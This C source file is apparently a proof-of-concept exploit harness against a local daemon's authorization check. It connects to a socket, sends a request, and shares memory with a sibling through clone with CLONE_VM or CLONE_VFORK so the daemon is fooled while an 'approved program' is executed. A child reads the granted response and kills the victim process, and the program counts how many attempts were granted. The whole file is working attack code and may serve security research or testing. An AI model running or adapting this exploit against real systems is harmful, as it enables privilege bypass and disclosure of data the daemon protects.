/*
 * Connects, starts a sibling that shares its memory, and executes an approved program: the sibling keeps the old memory
 * alive, so that what the daemon opened of it can still be read. Named vforked, it is itself such a sibling, of a parent
 * that waits.
 *
 *   sibling SOCKET REQUEST VICTIM         says "connected", goes on at a line of input, says "changed", goes on again
 *   sibling SOCKET REQUEST VICTIM COUNT   again and again without a word
 */
#include "attack.h"

static char **arguments;
static int *granted, directed;

static int keep(void *unused)
{
    (void)unused;
    for (;;)
        pause();
}

static void word(const char *out)
{
    char byte;
    dprintf(1, "%s\n", out);
    while (read(0, &byte, 1) == 1 && byte != '\n')
        ;
}

/* Starts a sibling on a stack of its own. */
static pid_t sibling_of_ours(int (*code)(void *), int flags)
{
    char *stack = mmap(NULL, 1 << 18, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    pid_t pid = stack == MAP_FAILED ? -1 : clone(code, stack + (1 << 18), CLONE_VM | SIGCHLD | flags, NULL);
    if (pid < 0)
        fail("clone");
    return pid;
}

static int connect_and_execute(void *sibling)
{
    int fd = dial(arguments[1], 0);
    if (directed)
        word("connected");
    pid_t keeper = sibling ? sibling_of_ours(keep, 0) : 0;
    say(fd, arguments[2]);
    if (fork() == 0) {
        pid_t victim = getppid();
        if (directed) {
            until_named(victim, "waiting");
            word("changed");
        }
        *granted += show(fd);
        if (keeper > 0)
            kill(keeper, SIGKILL);
        kill(victim, SIGKILL);
        _exit(0);
    }
    execl(arguments[3], arguments[3], NULL);
    fail("exec");
    return 0;
}

static void attempt(void)
{
    if (strcmp(VARIANT, "vforked") != 0)
        connect_and_execute(&granted);
    waitpid(sibling_of_ours(connect_and_execute, CLONE_VFORK), NULL, 0);
    _exit(0);
}

int main(int argc, char **argv)
{
    arguments = argv;
    granted = shared();
    directed = argc == 4;
    int count = argc > 4 ? atoi(argv[4]) : 1;
    for (int i = 0; i < count; i++) {
        if (fork() == 0)
            attempt();
        wait(NULL);
    }
    printf("%d of %d granted\n", *granted, count);
    return 0;
}
